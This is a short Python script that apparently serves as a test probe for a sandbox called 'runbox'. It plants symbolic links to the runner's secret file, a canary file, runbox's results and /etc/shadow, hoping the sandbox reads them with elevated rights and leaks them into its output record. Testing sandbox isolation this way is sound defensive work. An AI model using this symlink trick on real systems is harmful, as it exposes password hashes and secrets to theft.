"""Plants symbolic links where runbox reads tracked files back, pointing at
runbox's results, the runner's secret and /etc/shadow, hoping runbox reads
them with its own rights and puts them in the record."""
import os
import sys
A = dict(a.split("=", 1) for a in sys.argv[1:] if "=" in a)
for name, target in (("out.txt", A["secret_file"]), ("canary.txt", A["canary_file"]),
                     ("shadow.txt", "/etc/shadow"), ("results.txt", A["results_file"])):
    os.symlink(target, name)
print("planted", os.listdir("."), flush=True)
